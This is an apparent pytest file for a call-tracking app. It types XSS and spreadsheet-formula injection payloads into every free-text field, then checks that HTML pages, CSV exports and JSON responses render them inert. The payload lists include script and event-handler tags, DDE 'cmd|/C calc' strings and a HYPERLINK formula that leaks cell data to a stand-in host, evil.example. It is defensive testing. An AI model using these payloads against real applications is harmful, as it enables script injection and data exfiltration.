"""HTML and spreadsheet-formula payloads typed into every text field that reaches a rendering
or an export come out inert: HTML pages show them as text (no element, attribute, handler or
URL of theirs), CSV cells never start a formula, JSON carries them verbatim as strings — on
SQLite and PostgreSQL.

Fields: visit tags (utm_*, landing page, referrer), form fields, static numbers' sources and
placements, ad-spend rows, owners, a PBX caller name, lead notes and reasons, the account and
site names. Renderings: ``RENDERINGS`` below — add a new page, CSV or JSON there, with its kind,
and the checks apply to it.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from html.parser import HTMLParser
from typing import Any

import pytest

from calltrack.app import App
from calltrack.reports import export_store, exports
from tests.conftest import Http, make_tenant
from tests.numbers.helpers import visit
from tests.telephony.helpers import pbx_post, setup_phones

HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    "'><iframe src=javascript:alert(4)></iframe>",
    "</title></style><script>alert(5)</script>",
]
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=2+2",
]
PAYLOADS = HTML_PAYLOADS + FORMULA_PAYLOADS
NAME = "Acme <b onmouseover=alert(6)>Plumbing</b>"
CHROME = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36"
WINDOW = "from=2025-12-01&to=2026-01-02"
SINCE, UNTIL = 1_764_547_200.0, 1_767_312_000.0  # 2025-12-01 .. 2026-01-02 UTC


@dataclass
class Seeded:
    app: App
    http: Http
    key: str
    site_key: str
    account_id: int
    token: str


def seed(app: App, http: Http, clock: Any) -> Seeded:
    """One account whose every free-text field holds one payload or another."""
    tenant = make_tenant(app, NAME, ("acme.example",))
    phones = setup_phones(app, tenant, pool_size=len(PAYLOADS) + 2)

    def api(method: str, path: str, body: Any = None, **kw: Any) -> Any:
        code, answer, _ = http.request(method, path, json_body=body, key=tenant.key, **kw)
        assert code < 300, (method, path, code, answer)
        return answer

    api("POST", "/v1/owners", {"name": HTML_PAYLOADS[0]})
    api("POST", "/v1/owners", {"name": FORMULA_PAYLOADS[0]})
    api("POST", "/v1/numbers", {"number": "+14155550144", "forward_to": "+14155550177", "source": HTML_PAYLOADS[1], "medium": FORMULA_PAYLOADS[1],
                                "campaign": HTML_PAYLOADS[2], "keyword": FORMULA_PAYLOADS[3], "placement": HTML_PAYLOADS[3]})
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["date", "source", "medium", "campaign", "keyword", "clicks", "cost"])
    for i, p in enumerate(PAYLOADS):
        writer.writerow(["2025-12-20", p.strip(), "cpc", p.strip(), p.strip(), 10 + i, 20 + i])
    api("POST", "/v1/costs", data=out.getvalue().encode(), headers={"Content-Type": "text/csv"})
    for i, p in enumerate(PAYLOADS):
        vid = f"v{i}"
        visit(app, tenant, vid, utm_source=p, utm_medium=p, utm_campaign=p, utm_term=p, utm_content=p,
              url=f"https://acme.example/landing-{i}/{p}?x={p}", ref=f"https://ref.example/{p}", gclid=f"Cj0KCQ-click-{i}")
        form = {"site": tenant.site.site_key, "vid": vid, "id": f"form-{i}",
                "fields": {"email": f"person{i}@example.com", "phone": f"+1415555{1000 + i}", "name": p, "company": p, "message": p,
                           "ga_client_id": f"GA1.1.{1000 + i}.1767225600"}}
        code, answer, _ = http.request("POST", "/v1/forms", data=json.dumps(form).encode(), headers={"User-Agent": CHROME, "Content-Type": "text/plain"})
        assert code == 201, answer
        lead = answer["lead_id"]
        clock.advance(60)
        if i % 3 == 0:
            api("PATCH", f"/v1/leads/{lead}", {"stage": "lost", "loss_reason": p, "notes": p})
        elif i % 3 == 1:
            api("PATCH", f"/v1/leads/{lead}", {"stage": "customer", "value": 100 + i, "notes": p})
        else:
            api("PATCH", f"/v1/leads/{lead}", {"stage": "spam", "spam_reason": p})
    for i, p in enumerate(PAYLOADS[:4]):
        body = {"event": "call.completed", "call_id": f"pbx-{i}", "from": f"+1415555{2000 + i}", "to": "+14155550144", "caller_name": p,
                "disposition": "ANSWERED", "billsec": 90}
        code, answer, _ = pbx_post(http, phones.pbx_secret, body, now=clock.seconds())
        assert code == 200, answer
    token = app.reports.add_link_sync(tenant.account.id, label=PAYLOADS[0], now=clock.seconds(), days=30)
    return Seeded(app, http, tenant.key, tenant.site.site_key, tenant.account.id, token)


# -- renderings -------------------------------------------------------------------------------


def api_get(path: str, *, key: bool = True) -> Callable[[Seeded], bytes]:
    def fetch(s: Seeded) -> bytes:
        code, body, headers = s.http.request("GET", path.format(token=s.token, site=s.site_key), key=s.key if key else None)
        assert code == 200, (path, code, body)
        assert headers.getRawHeaders("x-content-type-options") == ["nosniff"]
        return body if isinstance(body, bytes) else json.dumps(body).encode()
    return fetch


def export(kind: str) -> Callable[[Seeded], bytes]:
    def fetch(s: Seeded) -> bytes:
        run = s.app.db.run_sync
        if kind == "leads_csv":
            return exports.leads_csv(run("x", export_store.leads_txn, s.account_id, SINCE, UNTIL)).payload
        if kind == "leads_json":
            return exports.leads_json(run("x", export_store.leads_txn, s.account_id, SINCE, UNTIL), since=SINCE, until=UNTIL, tz="UTC").payload
        found = run("x", export_store.conversions_txn, s.account_id, "lead", SINCE, UNTIL)
        if kind == "google_ads":
            return exports.google_ads_csv(found, conversion_name="Lead <b>", tz="America/New_York").payload
        if kind == "enhanced":
            return exports.enhanced_conversions_csv(found, conversion_name="Lead", tz="America/New_York").payload
        if kind == "microsoft":
            return exports.microsoft_ads_csv(found, conversion_name="Lead", value=10).payload
        if kind == "ga4":
            return exports.ga4_events(found, event_name="generate_lead", as_of=UNTIL, value=None)[1].payload
        raise AssertionError(kind)
    return fetch


LEVELS = ("campaign", "source", "medium", "source_medium", "keyword", "landing_page", "tracking_number", "channel")
RENDERINGS: dict[str, tuple[str, Callable[[Seeded], bytes]]] = {
    **{f"report.html {lv}": ("html", api_get(f"/v1/reports/campaigns.html?{WINDOW}&level={lv}")) for lv in LEVELS},
    "report link": ("html", api_get(f"/r/{{token}}?{WINDOW}&level=source", key=False)),
    "demo page": ("html", api_get("/demo?site={site}", key=False)),
    **{f"report.csv {lv}": ("csv", api_get(f"/v1/reports/campaigns.csv?{WINDOW}&level={lv}")) for lv in LEVELS},
    **{f"attribution.csv {lv}": ("csv", api_get(f"/v1/attribution?model=linear,first_touch&stage=lead&format=csv&{WINDOW}&level={lv}")) for lv in LEVELS},
    "export leads.csv": ("csv", export("leads_csv")),
    "export google ads": ("csv", export("google_ads")),
    "export enhanced conversions": ("csv", export("enhanced")),
    "export microsoft ads": ("csv", export("microsoft")),
    "report.json": ("json", api_get(f"/v1/reports/campaigns.json?{WINDOW}&level=keyword")),
    "attribution.json": ("json", api_get(f"/v1/attribution?model=linear&stage=lead&{WINDOW}&level=campaign")),
    "operations.json": ("json", api_get(f"/v1/reports/operations?{WINDOW}")),
    "leads.json": ("json", api_get("/v1/leads?limit=1000")),
    "spam leads.json": ("json", api_get("/v1/leads?status=spam")),
    "lead.json": ("json", api_get("/v1/leads/1")),
    "calls.json": ("json", api_get("/v1/calls")),
    "forms.json": ("json", api_get("/v1/forms")),
    "numbers.json": ("json", api_get("/v1/numbers")),
    "owners.json": ("json", api_get("/v1/owners")),
    "costs.json": ("json", api_get(f"/v1/costs?{WINDOW}")),
    "export leads.json": ("json", export("leads_json")),
    "export ga4": ("jsonl", export("ga4")),
}
# Renderings where the seeded payloads must show up (a rendering that lost the field would pass
# the inertness checks for nothing): every one, except exports that carry no free text.
NO_FREE_TEXT = {"export google ads", "export enhanced conversions", "export microsoft ads", "export ga4"} | {
    f"{r} {lv}" for r in ("report.csv", "attribution.csv") for lv in ("channel", "tracking_number")}


class _Html(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        (self.scripts if self._in_script else self.text).append(data)


FORBIDDEN_TAGS = {"iframe", "img", "object", "embed", "base", "frame", "frameset", "applet", "math"}
OUR_SCRIPTS = {"/ct.js"}
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data"}


def check_html(payload: bytes) -> list[str]:
    page = _Html()
    page.feed(payload.decode("utf-8"))
    problems = []
    for tag, attrs in page.tags:
        if tag in FORBIDDEN_TAGS:
            problems.append(f"<{tag}> element")
        if tag == "script" and attrs.get("src") not in OUR_SCRIPTS:
            problems.append(f"<script> not ours: {attrs}")
        for name, value in attrs.items():
            if name.startswith("on"):
                problems.append(f"<{tag} {name}=…> event handler")
            if name in URL_ATTRS and (value or "").strip().lower().startswith(("javascript:", "vbscript:", "data:text")):
                problems.append(f"<{tag} {name}={value!r}>")
    if any(s.strip() for s in page.scripts):
        problems.append("inline script text")
    raw = payload.decode("utf-8")
    problems += [f"raw payload {p!r}" for p in HTML_PAYLOADS + [NAME] if p in raw]
    return problems


NUMBER = re.compile(r"^[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$")


def check_csv(payload: bytes) -> list[str]:
    problems = []
    for r, row in enumerate(csv.reader(io.StringIO(payload.decode("utf-8")))):
        for c, cell in enumerate(row):
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not NUMBER.match(cell):
                problems.append(f"row {r} column {c}: formula cell {cell!r}")
    return problems


def check_json(payload: bytes) -> list[str]:
    try:
        json.loads(payload)
    except ValueError as e:
        return [f"not JSON: {e}"]
    return []


def check_jsonl(payload: bytes) -> list[str]:
    lines = payload.splitlines()
    return [p for line in lines for p in check_json(line)] or ([] if lines else ["no lines"])


def shows_a_payload(kind: str, payload: bytes) -> bool:
    """Whether a payload made it into the rendering, in the form that rendering gives it."""
    if kind == "html":
        page = _Html()
        page.feed(payload.decode("utf-8"))
        text = "".join(page.text)
        return any(p in text for p in HTML_PAYLOADS + [NAME])
    if kind == "csv":
        cells = [cell for row in csv.reader(io.StringIO(payload.decode("utf-8"))) for cell in row]
        return any(p.strip() in cell for p in PAYLOADS for cell in cells)
    strings: list[str] = []

    def walk(node: Any) -> None:
        if isinstance(node, dict):
            for k, v in node.items():
                strings.append(k)
                walk(v)
        elif isinstance(node, list):
            for v in node:
                walk(v)
        elif isinstance(node, str):
            strings.append(node)

    walk(json.loads(payload))
    return any(s in PAYLOADS or s.strip() in {p.strip() for p in PAYLOADS} for s in strings)


CHECKS = {"html": check_html, "csv": check_csv, "json": check_json, "jsonl": check_jsonl}


@pytest.fixture
def seeded(app: App, http: Http, clock: Any) -> Seeded:
    return seed(app, http, clock)


def test_every_rendering_keeps_payloads_inert(seeded: Seeded) -> None:
    problems: list[str] = []
    for name, (kind, fetch) in RENDERINGS.items():
        payload = fetch(seeded)
        problems += [f"{name}: {p}" for p in CHECKS[kind](payload)]
        if name not in NO_FREE_TEXT and not shows_a_payload(kind, payload):
            problems.append(f"{name}: none of the payloads shows (the check proves nothing for it)")
    assert not problems, "\n".join(problems)


def test_the_checks_catch_what_they_are_for() -> None:
    """The checks themselves: a page or a CSV built without escaping fails them."""
    for p in HTML_PAYLOADS:
        assert check_html(f"<html><body><td>{p}</td></body></html>".encode()), p
    assert not check_html("<html><body><td>&lt;script&gt;alert(1)&lt;/script&gt;</td></body></html>".encode())
    for p in FORMULA_PAYLOADS:
        out = io.StringIO()
        csv.writer(out).writerow(["campaign", p, -1.5])
        assert check_csv(out.getvalue().encode()), p
    assert not check_csv(b"campaign,'=1+1,-1.5,+3\n")
    assert check_json(b"<html>") and not check_json(b'{"a": "<script>"}')
